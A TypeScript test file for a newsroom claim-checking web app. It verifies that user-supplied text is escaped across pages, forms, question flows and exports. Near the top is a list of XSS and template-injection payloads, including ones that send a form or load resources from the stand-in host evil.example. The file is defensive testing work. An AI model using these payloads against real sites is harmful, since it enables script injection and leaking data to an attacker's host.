import { randomUUID } from 'node:crypto'
import { addUser, setRoles } from '../../src/accounts/store.js'
import { importArticle } from '../../src/articles/actions.js'
import { addComment } from '../../src/comments/actions.js'
import { downstream } from '../../src/downstream.js'
import { askOutside } from '../../src/outside/actions.js'
import { questionPath } from '../../src/outside/rules.js'
import { saveView } from '../../src/queue/actions.js'
import { makeReport } from '../../src/reports/actions.js'
import { aClaim, aDesk, anOrigin, aPerson, by, testHouse } from '../support/house.js'
import { signedIn, versionOf, Visitor } from '../support/visitor.js'
import { faultsOf } from './html.js'

/** Words that have run as code on other people's sites. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></ScRiPt>',
  '</script><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '<svg/onload=alert(4)>',
  '<svg><animate onbegin=alert(5) attributeName=x>',
  '"><img src=x onerror=alert(6)>',
  "'><img src=x onerror=alert(7)>",
  '" autofocus onfocus="alert(8)',
  "' onmouseover='alert(9)",
  '</textarea><script>alert(10)</script>',
  '</title><script>alert(11)</script>',
  '--><script>alert(12)</script>',
  '<iframe srcdoc="<script>alert(13)</script>">',
  '<a href="javascript:alert(14)">here</a>',
  '<form action=//evil.example><input name=_csrf>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<%= process.env %>',
  '<%- include("layouts/page") %>',
  '<style>*{background:url(//evil.example)}</style>',
  '&lt;script&gt;alert(22)&lt;/script&gt; & "quoted" <b>',
]

const test = await testHouse()
const all = payloads.join(' ')
const desk = await aDesk(test, `Desk ${payloads[0]}`)
const at = test.house.now()
const admin = await aPerson(test, desk, ['editor', 'senior_editor', 'viewer'], ['admin', 'auditor'])
await test.db.user.update({ where: { id: admin.id }, data: { name: `Ilse ${payloads[6]}` } })
await test.db.$transaction(async (tx) => {
  const email = 'odd@desk.example'
  const { id } = await addUser(
    tx,
    { email, emailAsTyped: `odd${payloads[8]}@desk.example`, name: all.slice(0, 190), passwordHash: 'x', at },
    [],
  )
  await setRoles(tx, { deskId: desk, userId: id, roles: ['editor'], at })
})
const story = `${payloads[3]} falls${payloads[11]}: clerk\n\nNORHAVEN, March 3 (${payloads[4]}) -- ${payloads.map((words, i) => `Line ${i}: "${words}," the ${words} clerk said.`).join('\n\n')}\n`
const { articleId } = await importArticle(
  test.house,
  by(test, admin),
  { text: story, headline: `Head ${all}`.slice(0, 480), fileName: `${payloads[6]}.txt`, deadlineAt: at },
  downstream,
)
const claims: string[] = []
for (const words of payloads) {
  const id = await aClaim(test, admin, articleId, {
    quote: `"${words}," the`,
    statement: words,
    source: words,
    cue: words.slice(0, 190),
    sourceType: 'anonymous_person',
  })
  const odd = {
    title: words,
    outlet: words,
    excerpt: words,
    locator: words,
    originName: words,
    reliability: 'B',
    gradeReason: words,
  }
  await anOrigin(test, admin, id, { ...odd, url: `https://evil.example/${encodeURI(words)}` })
  const { evidenceId } = await test.db.evidenceLink.findFirstOrThrow({ where: { claimId: id } })
  await addComment(test.house, by(test, admin), id, { comment: `${words} @Ilse`, aboutId: evidenceId })
  claims.push(id)
}
await saveView(test.house, by(test, admin), {
  name: (payloads[6] as string).slice(0, 60),
  query: new URLSearchParams({ q: payloads[0] as string }).toString(),
})
const visitor = await signedIn(test, admin)
const first = `/claims/${claims[0]}`
const version = async () => versionOf((await visitor.get(first)).text)
await visitor.post(`${first}/assessments`, {
  version: await version(),
  status: 'single_source',
  reason: 'own',
  note: all,
})
await visitor.post(`${first}/reopening`, { version: await version(), reason: all })
const { reportId } = await makeReport(test.house, by(test, admin), admin.name, articleId)

/** Raw words of a payload that would be markup where they stand. */
function live(html: string): string[] {
  return payloads.filter((words) => html.includes(words) && words !== payloads[21])
}

async function check(name: string, html: string) {
  expect([name, live(html)]).toEqual([name, []])
  expect([name, faultsOf(html).filter((fault) => !fault.includes('machine'))]).toEqual([name, []])
}

describe('text is never code', () => {
  it('on the pages of the desk', async () => {
    const q = encodeURIComponent(payloads[6] as string)
    for (const path of [
      '/',
      '/queue',
      `/queue?q=${q}&assignee=${q}&stage=${q}`,
      '/articles',
      `/articles/${articleId}`,
      `/articles/${articleId}/history`,
      '/reports',
      `/reports/${reportId}`,
      '/history',
      '/members',
      `/members/${admin.id}`,
      '/account',
      '/notices',
      '/articles/new',
      `/nothing/${q}`,
    ]) {
      const { status, text } = await visitor.get(path)
      expect([path, status < 500]).toEqual([path, true])
      await check(path, text)
    }
  })

  it.each(payloads.map((words, i) => [words, i] as const))(
    'in a claim, its source and its evidence: %s',
    async (_words, i) => {
      for (const page of [
        '',
        '/words',
        '/attribution',
        '/evidence/new',
        '/history',
        '/comments',
        '/questions/new',
      ])
        await check(
          page,
          (await visitor.get(`/claims/${claims[i]}${page}?in=${encodeURIComponent(all.slice(0, 300))}`)).text,
        )
    },
  )

  it.each(payloads.map((words, i) => [words, i] as const))(
    'in a question to somebody outside, and in the answer: %s',
    async (words, i) => {
      const claimId = claims[i] as string
      const form = { toWhom: words, question: words, statement: words, hours: 24, email: '' }
      const { questionId } = await askOutside(test.house, by(test, admin), claimId, form)
      const [path, outsider] = [questionPath(test.house.auditKey, questionId), new Visitor(test)]
      await check('question', (await outsider.get(path)).text)
      await check('mistake', (await outsider.send(path, { answer: words, reasons: words })).text)
      await check('closed', (await outsider.send(`${path}x`, { reasons: words })).text)
      expect((await outsider.send(path, { answer: 'disputes', reasons: words })).status).toBe(303)
      await check('claim', (await visitor.get(`/claims/${claimId}`)).text)
      await check('form', (await visitor.get(`/claims/${claimId}/evidence/new?answer=${questionId}`)).text)
      await test.db.loginLimit.deleteMany()
    },
  )

  it('in forms that come back with what was typed', async () => {
    const fields = [
      'quote',
      'statement',
      'source',
      'cue',
      'reason',
      'note',
      'comment',
      'toWhom',
      'question',
      'title',
      'outlet',
      'url',
      'excerpt',
      'locator',
      'originName',
      'gradeReason',
      'name',
      'email',
      'deadline',
      'headline',
      'from',
      'status',
      'kind',
      'in',
      'back',
    ]
    const typed = Object.fromEntries(fields.map((name) => [name, `${all} `]))
    for (const path of [
      `/articles/${articleId}/claims`,
      `/articles/${articleId}/deadline`,
      `${first}/words`,
      `${first}/attribution`,
      `${first}/evidence`,
      `${first}/questions`,
      `${first}/assessments`,
      `${first}/halves`,
      `${first}/rejection`,
      `${first}/return`,
      '/members/invitations',
      '/account/password',
      '/views',
    ]) {
      const answer = await visitor.post(path, { ...typed, version: await version() })
      expect([path, [303, 403, 409, 422].includes(answer.status)]).toEqual([path, true])
      if (answer.status !== 303) await check(path, answer.text)
    }
    await check(
      'conflict',
      (
        await visitor.post(`${first}/words`, {
          ...typed,
          version: '1',
          quote: 'x',
          statement: all,
          kind: 'event',
          weight: 'supporting',
        })
      ).text,
    )
    const outside = new Visitor(test)
    await check('kept', (await outside.send('/articles/x/claims', { ...typed, _key: randomUUID() })).text)
    await check(
      'sign-in',
      (await outside.post('/sign-in', { email: all, password: 'x', back: all }, '/sign-in')).text,
    )
  })

  it('in exports: they are files of another type, and never pages', async () => {
    for (const kind of ['csv', 'json']) {
      const { headers } = await visitor.get(`/reports/${reportId}/${kind}`)
      expect(headers['content-type']).not.toContain('html')
      expect(headers['content-disposition']).toMatch(/^attachment/)
    }
  })

  it('control: the same words unescaped would be found', () => {
    const page = (words: string) => `<p>${words}</p>`
    for (const words of payloads.slice(0, 21)) expect(live(page(words))).toContain(words)
  })
})
